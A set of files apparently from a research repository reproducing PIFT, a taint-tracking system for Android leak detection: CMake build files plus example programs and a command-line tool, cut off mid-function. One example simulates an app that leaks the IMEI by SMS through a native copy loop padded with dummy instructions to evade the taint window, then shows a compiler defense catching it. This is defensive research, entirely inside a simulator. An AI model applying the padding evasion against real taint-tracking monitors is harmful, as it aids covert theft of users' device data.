  "/root/repo/src/runtime/heap.cc" "src/runtime/CMakeFiles/pift_runtime.dir/heap.cc.o" "gcc" "src/runtime/CMakeFiles/pift_runtime.dir/heap.cc.o.d"
  "/root/repo/src/runtime/routines.cc" "src/runtime/CMakeFiles/pift_runtime.dir/routines.cc.o" "gcc" "src/runtime/CMakeFiles/pift_runtime.dir/routines.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/isa/CMakeFiles/pift_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pift_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/pift_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pift_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
