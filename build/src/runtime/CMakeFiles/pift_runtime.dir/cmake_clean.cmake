file(REMOVE_RECURSE
  "CMakeFiles/pift_runtime.dir/heap.cc.o"
  "CMakeFiles/pift_runtime.dir/heap.cc.o.d"
  "CMakeFiles/pift_runtime.dir/routines.cc.o"
  "CMakeFiles/pift_runtime.dir/routines.cc.o.d"
  "libpift_runtime.a"
  "libpift_runtime.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_runtime.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
