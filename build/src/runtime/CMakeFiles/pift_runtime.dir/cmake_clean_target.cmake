file(REMOVE_RECURSE
  "libpift_runtime.a"
)
