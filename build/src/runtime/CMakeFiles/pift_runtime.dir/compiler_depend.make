# Empty compiler generated dependencies file for pift_runtime.
# This may be replaced when dependencies are built.
