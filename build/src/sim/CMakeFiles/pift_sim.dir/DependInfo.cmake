
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/sim/cpu.cc" "src/sim/CMakeFiles/pift_sim.dir/cpu.cc.o" "gcc" "src/sim/CMakeFiles/pift_sim.dir/cpu.cc.o.d"
  "/root/repo/src/sim/trace.cc" "src/sim/CMakeFiles/pift_sim.dir/trace.cc.o" "gcc" "src/sim/CMakeFiles/pift_sim.dir/trace.cc.o.d"
  "/root/repo/src/sim/trace_io.cc" "src/sim/CMakeFiles/pift_sim.dir/trace_io.cc.o" "gcc" "src/sim/CMakeFiles/pift_sim.dir/trace_io.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/isa/CMakeFiles/pift_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pift_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pift_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
