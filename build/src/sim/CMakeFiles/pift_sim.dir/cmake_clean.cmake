file(REMOVE_RECURSE
  "CMakeFiles/pift_sim.dir/cpu.cc.o"
  "CMakeFiles/pift_sim.dir/cpu.cc.o.d"
  "CMakeFiles/pift_sim.dir/trace.cc.o"
  "CMakeFiles/pift_sim.dir/trace.cc.o.d"
  "CMakeFiles/pift_sim.dir/trace_io.cc.o"
  "CMakeFiles/pift_sim.dir/trace_io.cc.o.d"
  "libpift_sim.a"
  "libpift_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
