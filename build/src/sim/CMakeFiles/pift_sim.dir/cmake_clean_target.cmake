file(REMOVE_RECURSE
  "libpift_sim.a"
)
