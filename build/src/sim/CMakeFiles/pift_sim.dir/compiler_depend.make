# Empty compiler generated dependencies file for pift_sim.
# This may be replaced when dependencies are built.
