file(REMOVE_RECURSE
  "CMakeFiles/pift_stats.dir/heatmap.cc.o"
  "CMakeFiles/pift_stats.dir/heatmap.cc.o.d"
  "CMakeFiles/pift_stats.dir/histogram.cc.o"
  "CMakeFiles/pift_stats.dir/histogram.cc.o.d"
  "CMakeFiles/pift_stats.dir/render.cc.o"
  "CMakeFiles/pift_stats.dir/render.cc.o.d"
  "CMakeFiles/pift_stats.dir/timeseries.cc.o"
  "CMakeFiles/pift_stats.dir/timeseries.cc.o.d"
  "libpift_stats.a"
  "libpift_stats.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_stats.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
