file(REMOVE_RECURSE
  "libpift_stats.a"
)
