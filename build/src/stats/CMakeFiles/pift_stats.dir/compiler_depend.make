# Empty compiler generated dependencies file for pift_stats.
# This may be replaced when dependencies are built.
