file(REMOVE_RECURSE
  "CMakeFiles/pift_support.dir/logging.cc.o"
  "CMakeFiles/pift_support.dir/logging.cc.o.d"
  "libpift_support.a"
  "libpift_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
