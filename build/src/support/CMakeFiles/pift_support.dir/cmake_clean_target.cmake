file(REMOVE_RECURSE
  "libpift_support.a"
)
