# Empty dependencies file for pift_support.
# This may be replaced when dependencies are built.
