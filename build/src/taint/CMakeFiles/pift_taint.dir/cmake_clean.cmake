file(REMOVE_RECURSE
  "CMakeFiles/pift_taint.dir/range_set.cc.o"
  "CMakeFiles/pift_taint.dir/range_set.cc.o.d"
  "libpift_taint.a"
  "libpift_taint.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/pift_taint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
