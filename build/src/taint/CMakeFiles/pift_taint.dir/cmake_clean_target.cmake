file(REMOVE_RECURSE
  "libpift_taint.a"
)
