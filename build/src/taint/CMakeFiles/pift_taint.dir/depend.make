# Empty dependencies file for pift_taint.
# This may be replaced when dependencies are built.
