file(REMOVE_RECURSE
  "CMakeFiles/test_algorithm_reference.dir/test_algorithm_reference.cc.o"
  "CMakeFiles/test_algorithm_reference.dir/test_algorithm_reference.cc.o.d"
  "test_algorithm_reference"
  "test_algorithm_reference.pdb"
  "test_algorithm_reference[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_algorithm_reference.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
