# Empty compiler generated dependencies file for test_algorithm_reference.
# This may be replaced when dependencies are built.
