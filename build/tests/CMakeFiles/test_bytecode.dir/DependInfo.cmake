
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_bytecode.cc" "tests/CMakeFiles/test_bytecode.dir/test_bytecode.cc.o" "gcc" "tests/CMakeFiles/test_bytecode.dir/test_bytecode.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/dalvik/CMakeFiles/pift_dalvik.dir/DependInfo.cmake"
  "/root/repo/build/src/runtime/CMakeFiles/pift_runtime.dir/DependInfo.cmake"
  "/root/repo/build/src/taint/CMakeFiles/pift_taint.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/pift_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/isa/CMakeFiles/pift_isa.dir/DependInfo.cmake"
  "/root/repo/build/src/mem/CMakeFiles/pift_mem.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/pift_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
