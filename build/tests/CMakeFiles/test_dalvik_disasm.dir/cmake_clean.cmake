file(REMOVE_RECURSE
  "CMakeFiles/test_dalvik_disasm.dir/test_dalvik_disasm.cc.o"
  "CMakeFiles/test_dalvik_disasm.dir/test_dalvik_disasm.cc.o.d"
  "test_dalvik_disasm"
  "test_dalvik_disasm.pdb"
  "test_dalvik_disasm[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_dalvik_disasm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
