file(REMOVE_RECURSE
  "CMakeFiles/test_droidbench.dir/test_droidbench.cc.o"
  "CMakeFiles/test_droidbench.dir/test_droidbench.cc.o.d"
  "test_droidbench"
  "test_droidbench.pdb"
  "test_droidbench[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_droidbench.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
