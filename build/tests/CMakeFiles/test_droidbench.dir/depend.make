# Empty dependencies file for test_droidbench.
# This may be replaced when dependencies are built.
