file(REMOVE_RECURSE
  "CMakeFiles/test_hw_module.dir/test_hw_module.cc.o"
  "CMakeFiles/test_hw_module.dir/test_hw_module.cc.o.d"
  "test_hw_module"
  "test_hw_module.pdb"
  "test_hw_module[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_hw_module.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
