# Empty compiler generated dependencies file for test_hw_module.
# This may be replaced when dependencies are built.
