file(REMOVE_RECURSE
  "CMakeFiles/test_prevention.dir/test_prevention.cc.o"
  "CMakeFiles/test_prevention.dir/test_prevention.cc.o.d"
  "test_prevention"
  "test_prevention.pdb"
  "test_prevention[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_prevention.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
