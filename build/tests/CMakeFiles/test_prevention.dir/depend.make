# Empty dependencies file for test_prevention.
# This may be replaced when dependencies are built.
