file(REMOVE_RECURSE
  "CMakeFiles/test_taint.dir/test_taint.cc.o"
  "CMakeFiles/test_taint.dir/test_taint.cc.o.d"
  "test_taint"
  "test_taint.pdb"
  "test_taint[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_taint.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
