file(REMOVE_RECURSE
  "CMakeFiles/test_taint_storage.dir/test_taint_storage.cc.o"
  "CMakeFiles/test_taint_storage.dir/test_taint_storage.cc.o.d"
  "test_taint_storage"
  "test_taint_storage.pdb"
  "test_taint_storage[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_taint_storage.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
