# Empty dependencies file for test_taint_storage.
# This may be replaced when dependencies are built.
