file(REMOVE_RECURSE
  "CMakeFiles/test_untagged_storage.dir/test_untagged_storage.cc.o"
  "CMakeFiles/test_untagged_storage.dir/test_untagged_storage.cc.o.d"
  "test_untagged_storage"
  "test_untagged_storage.pdb"
  "test_untagged_storage[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_untagged_storage.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
