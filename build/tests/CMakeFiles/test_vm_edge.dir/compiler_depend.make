# Empty compiler generated dependencies file for test_vm_edge.
# This may be replaced when dependencies are built.
