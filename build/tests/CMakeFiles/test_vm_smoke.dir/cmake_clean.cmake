file(REMOVE_RECURSE
  "CMakeFiles/test_vm_smoke.dir/test_vm_smoke.cc.o"
  "CMakeFiles/test_vm_smoke.dir/test_vm_smoke.cc.o.d"
  "test_vm_smoke"
  "test_vm_smoke.pdb"
  "test_vm_smoke[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vm_smoke.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
