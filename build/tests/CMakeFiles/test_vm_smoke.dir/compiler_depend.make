# Empty compiler generated dependencies file for test_vm_smoke.
# This may be replaced when dependencies are built.
