# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_stats[1]_include.cmake")
include("/root/repo/build/tests/test_isa[1]_include.cmake")
include("/root/repo/build/tests/test_mem[1]_include.cmake")
include("/root/repo/build/tests/test_cpu[1]_include.cmake")
include("/root/repo/build/tests/test_trace[1]_include.cmake")
include("/root/repo/build/tests/test_taint[1]_include.cmake")
include("/root/repo/build/tests/test_tracker[1]_include.cmake")
include("/root/repo/build/tests/test_taint_storage[1]_include.cmake")
include("/root/repo/build/tests/test_hw_module[1]_include.cmake")
include("/root/repo/build/tests/test_baseline[1]_include.cmake")
include("/root/repo/build/tests/test_vm_smoke[1]_include.cmake")
include("/root/repo/build/tests/test_droidbench[1]_include.cmake")
include("/root/repo/build/tests/test_bytecode[1]_include.cmake")
include("/root/repo/build/tests/test_handlers[1]_include.cmake")
include("/root/repo/build/tests/test_runtime[1]_include.cmake")
include("/root/repo/build/tests/test_android[1]_include.cmake")
include("/root/repo/build/tests/test_analysis[1]_include.cmake")
include("/root/repo/build/tests/test_e2e[1]_include.cmake")
include("/root/repo/build/tests/test_untagged_storage[1]_include.cmake")
include("/root/repo/build/tests/test_thresholds[1]_include.cmake")
include("/root/repo/build/tests/test_algorithm_reference[1]_include.cmake")
include("/root/repo/build/tests/test_compiler[1]_include.cmake")
include("/root/repo/build/tests/test_prevention[1]_include.cmake")
include("/root/repo/build/tests/test_vm_edge[1]_include.cmake")
include("/root/repo/build/tests/test_dalvik_disasm[1]_include.cmake")
include("/root/repo/build/tests/test_registry[1]_include.cmake")
