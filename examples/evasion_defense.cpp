/**
 * @file
 * The Section 4.2 evasion and the Section 7 defense, end to end.
 *
 * An app exfiltrates the IMEI through a JNI-style native routine that
 * pads each character copy with dummy ALU instructions, pushing the
 * load-store distance beyond any realistic tainting window — PIFT at
 * (13,3) misses it. Recompiling the native code with the PIFT-aware
 * scheduler (dead-code elimination + load-store tightening) collapses
 * the distance back to 1 and the same app is caught.
 *
 * Run: ./build/examples/evasion_defense [padding]
 */

#include <array>
#include <cstdio>
#include <cstdlib>

#include "compiler/scheduler.hh"
#include "core/pift_tracker.hh"
#include "core/taint_store.hh"
#include "droidbench/app.hh"
#include "droidbench/helpers.hh"

using namespace pift;

namespace
{

/** The attacker's padded per-char copy loop (JNI native code). */
isa::Program
stealthCopy(Addr base, int padding)
{
    isa::Assembler a(base);
    a.label("loop");
    a.ldrh(6, isa::memOff(1, 2, isa::WriteBack::Post));
    for (int i = 0; i < padding; ++i) {
        switch (i % 3) {
          case 0: a.add(7, 7, isa::imm(13)); break;
          case 1: a.eor(3, 7, isa::reg(3)); break;
          default: a.mov(2, isa::regLsr(3, 2)); break;
        }
    }
    a.strh(6, isa::memOff(0, 2, isa::WriteBack::Post));
    a.subs(5, 5, isa::imm(1));
    a.b("loop", isa::Cond::Ne);
    a.bx(14);
    return a.finish();
}

/** Run the malicious app with the given native copy routine. */
bool
runScenario(const isa::Program &routine, std::string *payload)
{
    droidbench::AppContext ctx;
    core::IdealRangeStore store;
    core::PiftTracker tracker({13, 3, true}, store);
    ctx.hub.addSink(&tracker);

    // JNI-style native: copy the argument string through the
    // attacker routine, preserving the interpreter's registers.
    isa::Program loaded = routine;
    bool installed = false;
    auto jni_copy = ctx.dex.addNative(
        "JNI.stealthCopy", 1,
        [&](dalvik::Vm &vm, const dalvik::NativeCall &call) {
            if (!installed) {
                vm.cpu().loadProgram(loaded);
                installed = true;
            }
            runtime::Ref src = vm.memory().read32(call.arg_addr(0));
            uint32_t len = vm.heap().length(src);
            runtime::Ref dst = vm.heap().allocStringRaw(
                vm.dex().stringClass(), len);
            std::array<uint32_t, 16> saved{};
            for (RegIndex r = 0; r < 16; ++r)
                saved[r] = vm.cpu().reg(r);
            vm.cpu().setReg(0, vm.heap().dataAddr(dst));
            vm.cpu().setReg(1, vm.heap().dataAddr(src));
            vm.cpu().setReg(5, len);
            vm.cpu().call(loaded.base);
            for (RegIndex r = 0; r < 16; ++r)
                vm.cpu().setReg(r, saved[r]);
            vm.setRetval(dst);
        });

    dalvik::MethodBuilder b("Evasion.main", droidbench::app_nregs, 0);
    droidbench::emitSource(b, ctx.env.get_device_id, 10);
    b.moveObject(4, 10);
    b.invokeStatic(jni_copy, 1, 4);
    b.moveResultObject(11);
    droidbench::emitSms(ctx, b, 11);
    b.returnVoid();
    auto main_id = ctx.dex.addMethod(b.finish());

    ctx.vm.boot();
    ctx.vm.execute(main_id);
    if (payload && !ctx.env.sinkCalls().empty())
        *payload = ctx.env.sinkCalls().front().payload;
    return tracker.anyLeak();
}

} // namespace

int
main(int argc, char **argv)
{
    int padding = argc > 1 ? atoi(argv[1]) : 20;

    isa::Program evading = stealthCopy(0x0002'0000, padding);
    std::printf("attacker routine: %d dummy instructions between "
                "each ldrh and strh\n", padding);
    std::printf("load-store distance (evading): %d\n",
                compiler::worstLoadStoreDistance(evading));

    std::string payload;
    bool caught = runScenario(evading, &payload);
    std::printf("SMS payload actually sent: \"%s\"\n",
                payload.c_str());
    std::printf("PIFT at (NI=13, NT=3): %s\n\n",
                caught ? "LEAK DETECTED" : "MISSED (evasion worked)");

    isa::Program defended = stealthCopy(0x0002'0000, padding);
    auto stats = compiler::optimizeForPift(defended);
    std::printf("PIFT-aware recompilation: %llu dead instructions "
                "eliminated, %llu relocated, %llu pairs tightened\n",
                static_cast<unsigned long long>(stats.dead_eliminated),
                static_cast<unsigned long long>(stats.moved),
                static_cast<unsigned long long>(
                    stats.pairs_tightened));
    std::printf("load-store distance (defended): %d\n",
                compiler::worstLoadStoreDistance(defended));

    bool caught2 = runScenario(defended, &payload);
    std::printf("SMS payload actually sent: \"%s\"\n",
                payload.c_str());
    std::printf("PIFT at (NI=13, NT=3): %s\n",
                caught2 ? "LEAK DETECTED (defense worked)"
                        : "MISSED");
    return caught2 && !caught ? 0 : 1;
}
