/**
 * @file
 * Full-stack leak detection: the paper's Section 2 example app.
 *
 * Builds the "type=sms" + "&imei=" + getDeviceId() + "&dummy" program
 * as Dalvik-like bytecode, runs it through the real mterp on the
 * simulated CPU with the mini Android framework, and tracks it live
 * with PIFT. Prints every sink check with its verdict and the final
 * tainted ranges.
 *
 * Run: ./build/examples/leak_detection [NI] [NT]
 */

#include <cstdio>
#include <cstdlib>

#include "core/pift_tracker.hh"
#include "core/taint_store.hh"
#include "droidbench/app.hh"
#include "droidbench/helpers.hh"

using namespace pift;

int
main(int argc, char **argv)
{
    unsigned ni = argc > 1 ? static_cast<unsigned>(atoi(argv[1])) : 13;
    unsigned nt = argc > 2 ? static_cast<unsigned>(atoi(argv[2])) : 3;

    droidbench::AppContext ctx;

    // Live tracking: attach PIFT to the device's event stream.
    core::IdealRangeStore store;
    core::PiftTracker tracker({ni, nt, true}, store);
    ctx.hub.addSink(&tracker);

    // The Section 2 example program.
    dalvik::MethodBuilder b("Example.main", droidbench::app_nregs, 0);
    droidbench::emitConst(ctx, b, 4, "type=sms");
    droidbench::emitConst(ctx, b, 5, "&imei=");
    droidbench::emitConcat(ctx, b, 6, 4, 5);     // msgX + "&imei="
    droidbench::emitSource(b, ctx.env.get_device_id, 7);
    droidbench::emitConcat(ctx, b, 8, 6, 7);     // msgY
    droidbench::emitConst(ctx, b, 9, "&dummy");
    droidbench::emitConcat(ctx, b, 10, 8, 9);    // msgZ
    droidbench::emitSms(ctx, b, 10);
    b.returnVoid();
    dalvik::MethodId main_id = ctx.dex.addMethod(b.finish());

    ctx.vm.boot();
    ctx.vm.execute(main_id);

    std::printf("PIFT window: NI=%u NT=%u\n", ni, nt);
    std::printf("instructions executed: %llu\n",
                static_cast<unsigned long long>(ctx.cpu.retired()));

    for (const auto &call : ctx.env.sinkCalls()) {
        const char *kind =
            call.type == android::SinkType::Sms ? "SMS" :
            call.type == android::SinkType::Http ? "HTTP" : "LOG";
        std::printf("sink %-4s payload: \"%s\"\n", kind,
                    call.payload.c_str());
    }
    for (const auto &res : tracker.sinkResults()) {
        std::printf("sink check [0x%08x,0x%08x]: %s\n",
                    res.range.start, res.range.end,
                    res.tainted ? "TAINTED -> leak" : "clean");
    }

    std::printf("tainted ranges at exit (%zu, %llu bytes):\n",
                store.rangeCount(),
                static_cast<unsigned long long>(store.bytes()));
    for (const auto &r : store.rangesFor(ctx.cpu.pid()).ranges())
        std::printf("  [0x%08x, 0x%08x] %llu bytes\n", r.start, r.end,
                    static_cast<unsigned long long>(r.bytes()));

    std::printf("verdict: %s\n",
                tracker.anyLeak() ? "LEAK DETECTED" : "no leak");
    return 0;
}
