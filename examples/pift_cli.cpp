/**
 * @file
 * pift_cli — command-line front end to the reproduction.
 *
 * Subcommands:
 *   list                         all benchmark apps with categories
 *   run <app> [NI NT]            run one app, print the verdict
 *   sweep <app> [maxNI]          minimal-NI table for one app
 *   capture <app> <file>         save the app's trace to disk
 *   replay <file> [NI NT]        evaluate a saved trace
 *   static-check [app]           verify bytecode + static taint oracle
 *   policy [app]                 per-app static policy table (NI, NT,
 *                                untaint mode, implicit risk) and the
 *                                joined device-wide window
 *   telemetry [options]          replay the registry under telemetry,
 *                                print a metrics snapshot, write
 *                                BENCH_telemetry.json (+ trace files)
 *   explain <app> [--pid P]      replay one app under the provenance
 *                                flight recorder and print the causal
 *                                chain (or degradation cause) behind
 *                                every sink verdict; --dot/--jsonl
 *                                export the flow graph;
 *                                --service-queue N replays through a
 *                                bounded-queue tracking service so
 *                                backpressure-induced MaybeTainted
 *                                verdicts are attributed too
 *   snapshot <app> <dir>         run an app through the durable stack,
 *                                leaving snapshot.pift + wal.pift
 *   recover <dir>                reconstruct state from a durable dir
 *                                (--resume <app> re-drives the tail)
 *   fleet <snapshot...>          census table over snapshot files
 *
 * Global option: --jobs N bounds exec-pool parallelism for the
 * commands that fan replays out (sweep); output is byte-identical at
 * every N. PIFT_JOBS=N in the environment does the same.
 *
 * Examples:
 *   ./build/examples/pift_cli list
 *   ./build/examples/pift_cli run GPS_Latitude_Sms 13 3
 *   ./build/examples/pift_cli capture malware_lgroot /tmp/lg.trace
 *   ./build/examples/pift_cli replay /tmp/lg.trace 3 2
 */

#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <limits>
#include <string>

#include "analysis/evaluate.hh"
#include "analysis/offline.hh"
#include "core/taint_store.hh"
#include "exec/thread_pool.hh"
#include "dalvik/disasm.hh"
#include "droidbench/app.hh"
#include "droidbench/static_oracle.hh"
#include "faults/fault_injector.hh"
#include "persist/durable.hh"
#include "persist/recovery.hh"
#include "provenance/provenance.hh"
#include "service/service.hh"
#include "sim/batch.hh"
#include "sim/trace_io.hh"
#include "static/oracle.hh"
#include "static/policy.hh"
#include "static/verifier.hh"
#include "static/window.hh"
#include "telemetry/telemetry.hh"

using namespace pift;

namespace
{

/**
 * Parse a positive count that round-trips through size_t — the same
 * hardening parseJobs applies to --jobs. @return 0 for malformed,
 * non-positive, or out-of-range values (0 is never a valid count).
 */
size_t
parseCount(const char *s)
{
    if (!s || !*s)
        return 0;
    if (std::strchr(s, '-')) // strtoull wraps negatives silently
        return 0;
    char *end = nullptr;
    errno = 0;
    unsigned long long v = std::strtoull(s, &end, 10);
    if (*end || errno == ERANGE || v < 1 ||
        v > std::numeric_limits<size_t>::max())
        return 0;
    return static_cast<size_t>(v);
}

const droidbench::AppEntry *
findApp(const std::string &name)
{
    for (const auto &entry : droidbench::droidBenchApps())
        if (entry.name == name)
            return &entry;
    for (const auto &entry : droidbench::malwareApps())
        if (entry.name == name)
            return &entry;
    return nullptr;
}

int
cmdList()
{
    std::printf("%-36s %-16s %s\n", "app", "category", "ground truth");
    for (const auto &entry : droidbench::droidBenchApps())
        std::printf("%-36s %-16s %s\n", entry.name.c_str(),
                    entry.category.c_str(),
                    entry.leaks ? "leaks" : "benign");
    for (const auto &entry : droidbench::malwareApps())
        std::printf("%-36s %-16s %s\n", entry.name.c_str(),
                    entry.category.c_str(), "leaks");
    return 0;
}

int
cmdRun(const std::string &name, unsigned ni, unsigned nt)
{
    const auto *entry = findApp(name);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                     name.c_str());
        return 2;
    }
    auto run = droidbench::runApp(*entry);
    core::PiftParams p{ni, nt, true};
    bool pift = analysis::piftDetectsLeak(run.trace, p);
    bool full = analysis::baselineDetectsLeak(run.trace);

    std::printf("app: %s (%s, ground truth: %s)\n",
                entry->name.c_str(), entry->category.c_str(),
                entry->leaks ? "leaks" : "benign");
    std::printf("trace: %zu records, %zu source/sink events\n",
                run.trace.records.size(), run.trace.controls.size());
    for (const auto &call : run.sink_calls)
        std::printf("sink payload: \"%s\"\n", call.payload.c_str());
    std::printf("PIFT (NI=%u, NT=%u): %s\n", ni, nt,
                pift ? "LEAK DETECTED" : "clean");
    std::printf("full DIFT baseline: %s\n",
                full ? "LEAK DETECTED" : "clean");
    return 0;
}

int
cmdSweep(const std::string &name, unsigned max_ni)
{
    const auto *entry = findApp(name);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s'\n", name.c_str());
        return 2;
    }
    auto run = droidbench::runApp(*entry);
    std::printf("%-4s %s\n", "NT", "minimal NI");
    for (unsigned nt = 1; nt <= 5; ++nt) {
        unsigned min_ni = analysis::minimalNi(run.trace, nt, max_ni,
                                              exec::defaultJobs());
        if (min_ni > max_ni)
            std::printf("%-4u never (<= %u)\n", nt, max_ni);
        else
            std::printf("%-4u %u\n", nt, min_ni);
    }
    return 0;
}

int
cmdDump(const std::string &name)
{
    const auto *entry = findApp(name);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s'\n", name.c_str());
        return 2;
    }
    droidbench::AppContext ctx;
    size_t preinstalled = ctx.dex.methodCount();
    dalvik::MethodId main_id = entry->declare(ctx);
    // Print the app's own methods (everything it registered), main
    // last for readability.
    for (dalvik::MethodId id = static_cast<dalvik::MethodId>(
             preinstalled);
         id < ctx.dex.methodCount(); ++id) {
        if (id == main_id)
            continue;
        std::printf("%s\n", dalvik::disassemble(
            ctx.dex.method(id)).c_str());
    }
    std::printf("%s\n",
                dalvik::disassemble(ctx.dex.method(main_id)).c_str());
    return 0;
}

int
cmdCapture(const std::string &name, const std::string &path)
{
    const auto *entry = findApp(name);
    if (!entry) {
        std::fprintf(stderr, "unknown app '%s'\n", name.c_str());
        return 2;
    }
    auto run = droidbench::runApp(*entry);
    if (auto st = sim::saveTrace(path, run.trace); !st.ok()) {
        std::fprintf(stderr, "%s\n", st.message().c_str());
        return 2;
    }
    std::printf("wrote %zu records to %s\n", run.trace.records.size(),
                path.c_str());
    return 0;
}

int
cmdReplay(const std::string &path, unsigned ni, unsigned nt)
{
    sim::Trace trace;
    if (auto st = sim::loadTrace(path, trace); !st.ok()) {
        std::fprintf(stderr, "%s\n", st.message().c_str());
        return 2;
    }
    core::PiftParams p{ni, nt, true};
    bool pift = analysis::piftDetectsLeak(trace, p);
    std::printf("%zu records; PIFT (NI=%u, NT=%u): %s\n",
                trace.records.size(), ni, nt,
                pift ? "LEAK DETECTED" : "clean");
    return 0;
}

int
staticCheckApp(const droidbench::AppEntry &entry)
{
    droidbench::AppContext ctx;
    dalvik::MethodId main_id = entry.declare(ctx);

    unsigned errors = 0;
    unsigned warnings = 0;
    for (size_t id = 0; id < ctx.dex.methodCount(); ++id) {
        const auto &m =
            ctx.dex.method(static_cast<dalvik::MethodId>(id));
        auto result = static_analysis::verifyMethod(m, &ctx.dex);
        errors += result.errorCount();
        warnings += result.warningCount();
        for (const auto &d : result.diagnostics)
            std::printf("  %s: %s\n", m.name.c_str(),
                        static_analysis::formatDiagnostic(d).c_str());
    }

    auto oracle = static_analysis::runOracle(
        ctx.dex, main_id, droidbench::oracleConfigFor(ctx));
    std::printf("%-36s verify: %u error(s), %u warning(s); "
                "oracle: %s (truth: %s)\n",
                entry.name.c_str(), errors, warnings,
                oracle.leaks ? "leaks" : "benign",
                entry.leaks ? "leaks" : "benign");
    for (const auto &sink : oracle.leak_sinks)
        std::printf("  tainted data reaches sink %s\n", sink.c_str());
    return errors ? 1 : 0;
}

int
cmdStaticCheck(const std::string &name)
{
    if (!name.empty()) {
        const auto *entry = findApp(name);
        if (!entry) {
            std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                         name.c_str());
            return 2;
        }
        return staticCheckApp(*entry);
    }
    int rc = 0;
    for (const auto &entry : droidbench::droidBenchApps())
        rc |= staticCheckApp(entry);
    for (const auto &entry : droidbench::malwareApps())
        rc |= staticCheckApp(entry);
    return rc;
}

/**
 * Per-app static policy table. Every row is derived without
 * executing the app: the call-graph walk collects the opcodes and
 * branches the app can reach, the two oracle modes decide whether it
 * carries implicit risk, and the window derivation turns that into
 * per-app (NI, NT) plus the untaint mode. The joined row is the
 * device-wide policy a fleet operator would load.
 */
int
cmdPolicy(const std::string &name)
{
    auto policies =
        droidbench::derivePolicies(droidbench::droidBenchApps());
    auto malware =
        droidbench::derivePolicies(droidbench::malwareApps());
    policies.insert(policies.end(), malware.begin(), malware.end());

    if (!name.empty()) {
        for (const auto &p : policies) {
            if (p.app != name)
                continue;
            std::printf("%s", static_analysis::formatPolicyTable(
                                  {p}).c_str());
            return 0;
        }
        std::fprintf(stderr, "unknown app '%s' (try 'list')\n",
                     name.c_str());
        return 2;
    }

    std::printf("%s",
